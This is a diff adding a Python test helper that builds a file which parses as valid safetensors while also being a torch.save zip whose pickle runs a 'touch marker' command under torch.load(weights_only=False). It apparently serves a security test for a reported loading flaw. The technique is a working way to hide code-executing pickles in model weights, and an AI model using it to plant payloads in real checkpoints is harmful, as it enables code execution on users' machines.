@@ -295,6 +295,57 @@ def payload_checkpoint(path: Path, marker: Path) -> Path:
     return path
 
 
+def safetensors_zip_polyglot(path: Path, state: dict, marker: Path) -> Path:
+    """A file that is at once a valid safetensors file holding ``state`` and a torch.save zip whose pickle runs
+    ``touch marker`` under ``torch.load(weights_only=False)`` (issue 21, finding 1).
+
+    The 8-byte safetensors length is the zip magic ``PK\\x03\\x04`` plus four zero bytes (a 64 MiB header padded
+    with spaces); the zip (its members carry absolute offsets) fills the end of the last tensor's bytes, where
+    torch's zip reader finds its directory. Writes about 65 MB.
+    """
+    import zipfile as zf
+
+    import torch
+
+    n = int.from_bytes(b"PK\x03\x04\0\0\0\0", "little")
+    base = 8 + n
+    evil = io.BytesIO()
+    torch.save({"state_dict": {}, "hook": Payload(marker)}, evil)
+    members = zf.ZipFile(io.BytesIO(evil.getvalue()))
+    names = list(state)
+    blobs = [state[k].contiguous().reshape(-1).view(torch.uint8).numpy().tobytes() for k in names]
+    body_before_last = sum(len(b) for b in blobs[:-1])
+
+    def zip_at(start: int) -> bytes:
+        buf = io.BytesIO()
+        buf.write(b"\0" * start)
+        with zf.ZipFile(buf, "a", zf.ZIP_STORED) as z:  # appending to non-zip data: offsets count it
+            for info in members.infolist():
+                z.writestr(info.filename, members.read(info.filename))
+        return buf.getvalue()[start:]
+
+    size = len(zip_at(base))
+    if size > len(blobs[-1]):
+        raise ValueError("the last tensor is too small to hold the zip")
+    start = base + body_before_last + len(blobs[-1]) - size
+    payload = zip_at(start)
+    offsets, pos = {}, 0
+    for k, b in zip(names, blobs):
+        offsets[k] = [pos, pos + len(b)]
+        pos += len(b)
+    dtypes = {torch.float32: "F32", torch.int64: "I64", torch.float16: "F16", torch.uint8: "U8"}
+    header = {k: {"dtype": dtypes[state[k].dtype], "shape": list(state[k].shape), "data_offsets": offsets[k]} for k in names}
+    text = json.dumps(header).encode()
+    with open(path, "wb") as f:
+        f.write(n.to_bytes(8, "little"))
+        f.write(text + b" " * (n - len(text)))
+        for b in blobs[:-1]:
+            f.write(b)
+        f.write(blobs[-1][: len(blobs[-1]) - len(payload)])
+        f.write(payload)
+    return path
+
+
 def good_checkpoint(path: Path, *, winner: int = GOOD_CLASSES.index(GOOD_CLASS)) -> Path:
     """A 3-class ResNet-18 saved from ``nn.DataParallel`` (keys "module."), fc bias favouring ``winner``."""
     import torch
